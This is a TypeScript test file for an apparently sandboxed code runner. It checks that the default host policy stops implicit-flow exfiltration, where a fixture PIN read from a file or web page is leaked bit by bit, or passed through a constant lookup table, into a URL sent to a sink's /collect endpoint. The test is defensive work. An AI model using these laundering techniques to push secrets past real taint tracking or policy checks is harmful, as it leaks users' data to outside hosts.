// Implicit flows: the program reads data a third party may have written (a file in the sandbox,
// a page from a listed host), branches on each character and builds a URL from constants only.
// The URL carries the data out bit by bit although no untrusted value flows into it. The shipped
// default policy (its listed host made the sink's) must not let that run without a person.
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { program, ROOT, shown, SLOW, useWorld } from "./world.js";

const w = useWorld({
  policies: (world) => ({
    "default.toml": readFileSync(join(ROOT, "policies", "default.toml"), "utf8").replaceAll(
      "api.example.com",
      world.sinks[0]!.host,
    ),
  }),
});

beforeAll(() => {
  writeFileSync(join(w.sandbox, "pin.txt"), "PIN 4821");
  w.sinks[0]!.serve("/page", "PIN 4821");
});

const imports = `import { readFile } from "trusted/fs";\nimport { get } from "trusted/http";`;

/** Each character's low bit chosen by a branch, appended as a constant. */
const bits = (read: string, sink: string) =>
  program(
    `${read}
    let url = "${sink}/collect?b=";
    for (let i = 0; i < text.length && i < 16; i++) {
      if (text.charCodeAt(i) % 2 === 1) url = url + "1";
      else url = url + "0";
    }
    await get({ url });`,
    { imports },
  );

/** Each character looked up in a table of constants: the character itself, laundered. */
const table = (read: string, sink: string) =>
  program(
    `${read}
    const alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ ";
    let out = "";
    for (let i = 0; i < text.length && i < 16; i++) {
      for (let j = 0; j < alphabet.length; j++) {
        if (text.charAt(i) === alphabet.charAt(j)) out = out + alphabet.charAt(j);
      }
    }
    await get({ url: "${sink}/collect?c=" + encodeURIComponent(out) });`,
    { imports },
  );

const fromFile = (sandbox: string) =>
  `    const text = String((await readFile({ path: ${JSON.stringify(join(sandbox, "pin.txt"))} })).content);`;
const fromPage = (sink: string) => `    const text = String((await get({ url: "${sink}/page" })).body);`;

describe("data that steers a request without flowing into it", () => {
  it(
    "the default policy does not auto-approve it: /collect receives nothing without a person",
    async () => {
      const sink = w.sinks[0]!;
      const said: string[] = [];
      for (const source of [
        bits(fromFile(w.sandbox), sink.origin),
        table(fromFile(w.sandbox), sink.origin),
        bits(fromPage(sink.origin), sink.origin),
        table(fromPage(sink.origin), sink.origin),
      ]) {
        const r = await w.run(source, { args: ["--timeout", "2"] });
        if (/^\d+:\d+: error/m.test(r.stdout + r.stderr))
          throw new Error(`refused by the analysis:\n${r.stdout}${r.stderr}`);
        said.push(`exit ${r.code}: ${r.stdout.split("\n")[1]} ${r.stderr.split("\n")[0]}`);
      }
      expect(shown(sink.received.filter((a) => a.url.startsWith("/collect"))), said.join("\n")).toBe("(nothing)");
    },
    SLOW,
  );

  it(
    "the control: a constant URL to the listed host runs without asking",
    async () => {
      const r = await w.run(program(`    await get({ url: "${w.sinks[0]!.origin}/fine" });`, { imports }));
      expect(
        w.sinks[0]!.received.map((a) => a.url),
        r.stdout + r.stderr,
      ).toContain("/fine");
    },
    SLOW,
  );
});
